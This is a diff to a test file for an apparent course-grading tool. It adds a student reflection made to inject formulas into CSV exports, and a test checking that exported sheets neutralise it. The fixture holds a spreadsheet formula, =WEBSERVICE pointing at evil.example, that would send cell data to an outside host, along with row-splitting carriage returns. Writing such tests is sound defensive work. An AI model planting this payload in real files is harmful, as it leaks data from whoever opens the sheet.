@@ -7,6 +7,8 @@ the summary says what was found. One small course (one step) keeps the kernels f
 
 from __future__ import annotations
 
+import csv
+import io
 import threading
 from html.parser import HTMLParser
 
@@ -33,6 +35,7 @@ _c.grade = _s.grade = _full
 """
 
 
+REFLECTION = "I will ask Dana.\r=WEBSERVICE(\"https://evil.example/?\"&A1)\r\n+SUM(1)\n@x"
 BEACON = """import mentor_workshop as _mw
 from IPython.display import HTML, Markdown, display
 def _show(*args, **kwargs):
@@ -63,7 +66,8 @@ def graded(tmp_path_factory: pytest.TempPathFactory) -> dict:
     course = make_course(base, [STEP], timeout=5)
     inbox = base / "inbox"
     full = complete_answers()
-    make_submission(course, inbox / "p01", answers=full)  # honest and complete
+    # honest and complete; its reflection tries to split the grading sheet with a formula
+    make_submission(course, inbox / "p01", answers=full, reflection=REFLECTION)
     make_submission(course, inbox / "p02", edit=_add_before_first_test(FORGE_CHECK))
     # p03's empty journal, but the parameters cell reads the honest p01's copy
     victim = course / "submitted" / "p01" / ASSIGNMENT / "journal.json"
@@ -143,6 +147,22 @@ class _Tags(HTMLParser):
         if self.seen and self.seen[-1][0] == "script":
             tag, attrs, text = self.seen[-1]
             self.seen[-1] = (tag, attrs, text + data)
+
+
+def test_reflection_text_cannot_start_a_row_or_a_formula_in_csv(graded: dict,
+                                                                tmp_path: Path) -> None:
+    course = graded["course"]
+    sheet, scores = tmp_path / "to_grade.csv", tmp_path / "grades.csv"
+    assert cli(["grade", "export", str(course), str(sheet)]).returncode == 0
+    assert cli(["export", str(course), str(scores)]).returncode == 0
+    for path in (sheet, scores):
+        raw = path.read_bytes().decode("utf-8-sig")
+        assert "\r" not in raw
+        for line in raw.splitlines():
+            assert line[:1] not in ("=", "+", "-", "@", "\t"), (path.name, line)
+    rows = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
+    texts = [r["answer"] for r in rows if "WEBSERVICE" in r["answer"]]
+    assert len(texts) == 1 and "\n'=WEBSERVICE" in texts[0] and "\n'+SUM" in texts[0]
 
 
 def test_a_second_autograde_on_the_same_course_refuses_clearly(graded: dict) -> None:
